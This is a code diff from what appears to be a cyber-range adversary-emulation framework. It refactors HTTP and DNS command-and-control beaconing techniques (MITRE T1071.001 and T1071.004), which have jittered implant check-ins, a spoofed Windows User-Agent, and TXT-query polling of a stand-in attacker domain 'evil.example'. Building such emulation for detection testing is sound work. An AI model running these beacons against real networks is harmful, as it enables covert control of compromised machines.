@@ -3,7 +3,7 @@
 Also the two clients the exfiltration family reuses:
 
 * :func:`http_request`: one HTTP request over one real kernel TCP connection
-  (``common.Conn``), counted exactly with TCP_INFO. The request is written in pieces of at most
+  (``tcp.Conn``), counted exactly with TCP_INFO. The request is written in pieces of at most
   one MSS with ``TCP_NODELAY`` and ``TCP_NOTSENT_LOWAT = 1`` (a piece is written only when the
   previous one has left), so every piece is one segment on the wire and never a GSO
   super-packet (on veth links a sensor would see a 64 kB "packet" where ``tcpi_segs_out``
@@ -22,8 +22,9 @@ import secrets
 import socket
 import time
 
-from cyberrange.attack.spec import Param, Technique
-from cyberrange.attack.techniques.common import Conn, Result, flow
+from cyberrange.attack.spec import Param, technique
+from cyberrange.attack.techniques.common import Result, flow
+from cyberrange.attack.techniques.tcp import Conn
 
 TCP_NOTSENT_LOWAT = 25
 UDP_FRAME_OVERHEAD = 42          # Ethernet 14 + IP 20 + UDP 8
@@ -166,9 +167,18 @@ def first_rdata(ans) -> str | None:
 
 
 # --------------------------------------------------------------------------- T1071.001
-def _schedule(params: dict, default_count: int):
-    count = int(params.get("count", default_count))
-    duration = float(params.get("duration", 0) or 0)
+_SCHED = {
+    "interval": Param((int, float), 5.0, "seconds between check-ins"),
+    "jitter": Param((int, float), 0.2, "fraction of the interval added or removed at random"),
+    "count": Param(int, 5, "check-ins (0: until duration)"),
+    "duration": Param((int, float), 0, "stop after this many seconds (0: after count)"),
+    "seed": Param(int, None, "seed of the jitter (repeatable schedules)"),
+}
+
+
+def _schedule(params: dict):
+    count = int(params["count"])
+    duration = float(params["duration"] or 0)
     if count <= 0 and duration <= 0:
         raise ValueError("give count > 0 or duration > 0")
     if count > 100_000 or duration > 86_400:
@@ -176,20 +186,30 @@ def _schedule(params: dict, default_count: int):
     return count if count > 0 else 10 ** 9, duration
 
 
+@technique(
+    "T1071.001", "Application Layer Protocol: Web Protocols (HTTP C2 beaconing)",
+    "command-and-control",
+    {**_SCHED,
+     "method": Param(str, "GET", 'GET or POST check-ins (POST carries {"id", "n"})'),
+     "path": Param(str, "/beacon", "URL path of the check-in"),
+     "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header"),
+     "port": Param(int, 8443, "listener port for targets given without :port"),
+     "id": Param(str, "", "implant id sent with each check-in (random if empty)")},
+    produces=("beacons", "tasks", "agent_id"), target_kind="service")
 def http_beacon(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
-    rng = random.Random(params.get("seed"))
-    interval, jitter = float(params.get("interval", 5.0)), float(params.get("jitter", 0.2))
+    rng = random.Random(params["seed"])
+    interval, jitter = float(params["interval"]), float(params["jitter"])
     try:
-        count, duration = _schedule(params, 5)
+        count, duration = _schedule(params)
     except ValueError as exc:
         res.outcome, res.error, res.end = "error", str(exc), time.time()
         return res
-    method = str(params.get("method", "GET")).upper()
-    path = str(params.get("path", "/beacon"))
-    ua = str(params.get("user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
-    agent_id = str(params.get("id") or secrets.token_hex(4))
-    services = list(dict.fromkeys(parse_service(t, params.get("port", 8443)) for t in targets))
+    method = str(params["method"]).upper()
+    path = str(params["path"])
+    ua = str(params["user_agent"])
+    agent_id = str(params["id"] or secrets.token_hex(4))
+    services = list(dict.fromkeys(parse_service(t, params["port"]) for t in targets))
     tasks, ok, failed = [], 0, {}
     t_end = time.monotonic() + duration if duration > 0 else None
     n = 0
@@ -223,21 +243,30 @@ def http_beacon(targets: list[str], params: dict) -> Result:
 
 
 # --------------------------------------------------------------------------- T1071.004
+@technique(
+    "T1071.004", "Application Layer Protocol: DNS (C2 polling with TXT queries)",
+    "command-and-control",
+    {**_SCHED,
+     "domain": Param(str, "evil.example", "the attacker's domain"),
+     "session": Param(str, "", "session label (random if empty)"),
+     "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
+     "retries": Param(int, 1, "resends of an unanswered query")},
+    produces=("beacons", "tasks", "session"), target_kind="service")
 def dns_beacon(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
-    rng = random.Random(params.get("seed"))
-    interval, jitter = float(params.get("interval", 5.0)), float(params.get("jitter", 0.2))
+    rng = random.Random(params["seed"])
+    interval, jitter = float(params["interval"]), float(params["jitter"])
     try:
-        count, duration = _schedule(params, 5)
+        count, duration = _schedule(params)
     except ValueError as exc:
         res.outcome, res.error, res.end = "error", str(exc), time.time()
         return res
-    domain = str(params.get("domain", "evil.example")).strip(".")
-    session = str(params.get("session") or secrets.token_hex(4))
+    domain = str(params["domain"]).strip(".")
+    session = str(params["session"] or secrets.token_hex(4))
     ip, port = parse_service(targets[0], 53)
     if len(targets) > 1:
         res.log.append(f"DNS C2 talks to one server; using {ip}:{port}")
-    client = DnsClient(ip, port, float(params.get("timeout", 1.0)), int(params.get("retries", 1)))
+    client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
     tasks = []
     t_end = time.monotonic() + duration if duration > 0 else None
     n = 0
@@ -261,40 +290,3 @@ def dns_beacon(targets: list[str], params: dict) -> Result:
     res.outcome = "succeeded" if tasks else "blocked"
     res.end = time.time()
     return res
-
-
-_SCHED = {
-    "interval": Param((int, float), 5.0, "seconds between check-ins"),
-    "jitter": Param((int, float), 0.2, "fraction of the interval added or removed at random"),
-    "count": Param(int, 5, "check-ins (0: until duration)"),
-    "duration": Param((int, float), 0, "stop after this many seconds (0: after count)"),
-    "seed": Param(int, None, "seed of the jitter (repeatable schedules)"),
-}
-
-SPECS = [
-    Technique(
-        "T1071.001", "Application Layer Protocol: Web Protocols (HTTP C2 beaconing)",
-        "command-and-control",
-        {**_SCHED,
-         "method": Param(str, "GET", "GET or POST check-ins"),
-         "path": Param(str, "/beacon", "URL path of the check-in"),
-         "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header"),
-         "port": Param(int, 8443, "listener port for targets given without :port"),
-         "id": Param(str, "", "implant id sent with each check-in (random if empty)")},
-        produces=("beacons", "tasks", "agent_id"),
-        target_kind="service",
-    ),
-    Technique(
-        "T1071.004", "Application Layer Protocol: DNS (C2 polling with TXT queries)",
-        "command-and-control",
-        {**_SCHED,
-         "domain": Param(str, "evil.example", "the attacker's domain"),
-         "session": Param(str, "", "session label (random if empty)"),
-         "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
-         "retries": Param(int, 1, "resends of an unanswered query")},
-        produces=("beacons", "tasks", "session"),
-        target_kind="service",
-    ),
-]
-
-FUNCS = {"T1071.001": http_beacon, "T1071.004": dns_beacon}
